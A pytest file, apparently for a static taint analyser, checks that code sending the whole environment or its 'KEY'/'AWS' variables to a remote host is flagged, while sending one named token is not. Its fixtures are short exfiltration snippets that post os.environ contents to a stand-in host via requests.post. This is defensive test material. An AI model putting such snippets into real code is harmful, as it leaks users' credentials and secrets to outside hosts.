"""One variable out of a copy of the environment is one variable; all of them stay all of them."""

import pytest
from engine_flows import flows

from ostiary.program.flow import Act, Taint

START = "import os, requests\ndef snd(d): requests.post('https://c.example.invalid/', json=d)\n"

ONE = {
    "copy": "cfg = dict(os.environ)\nsnd(cfg['API_TOKEN'])",
    "method": "cfg = os.environ.copy()\nsnd(cfg.get('API_TOKEN'))",
    "spread": "cfg = {'a': 1, **os.environ}\nsnd(cfg['API_TOKEN'])",
    "filled": "cfg = {}\ncfg.update(os.environ)\nsnd(cfg['API_TOKEN'])",
    "settings": "import flask\napp = flask.Flask('x'); app.config.from_mapping(os.environ)\n"
    "snd(app.config['API_TOKEN'])",
    "asked": "import flask\napp = flask.Flask('x'); app.config.update(os.environ)\n"
    "snd(app.config.get('API_TOKEN'))",
    "options": "import argparse\np = argparse.ArgumentParser(); p.set_defaults(**os.environ)\n"
    "snd(p.parse_args().API_TOKEN)",
}
"""A client that sends a token of its own."""

ALL = {
    "copy": "snd(os.environ.copy())",
    "deep copy": "import copy\nsnd(copy.deepcopy(os.environ))",
    "picked": "snd({k: v for k, v in dict(os.environ).items() if 'KEY' in k})",
    "picked by a loop": "d = os.environ.copy()\nfor k in d.keys():\n    if k.startswith('AWS'): snd(d[k])",
    "settings": "import flask\napp = flask.Flask('x'); app.config.from_mapping(os.environ)\n"
    "snd(dict(app.config))",
    "under a name": "import configparser\nc = configparser.ConfigParser()\n"
    "c.read_dict({'env': os.environ}); snd(c['env'])",
    "one by one": "import flask\napp = flask.Flask('x'); app.config.update(os.environ)\n"
    "snd({k: app.config[k] for k in app.config})",
    "put again": "import flask\nc = flask.Flask('x').config; c.update(os.environ)\n"
    "c['x'] = repr(dict(os.environ)); snd(c['x'])",
}
"""What takes them all, or those that look well."""


def sent(text: str) -> list[bool]:
    """Whether each request carries the whole environment."""
    return [one.has(Taint.ENVIRONMENT) for one in flows(START + text + "\n", Act.SEND)]


@pytest.mark.parametrize("name", ONE)
def test_one_variable_under_its_name_is_one(name: str) -> None:
    assert sent(ONE[name]) == [False]


@pytest.mark.parametrize("name", ALL)
def test_all_of_them_stay_all(name: str) -> None:
    assert any(sent(ALL[name]))
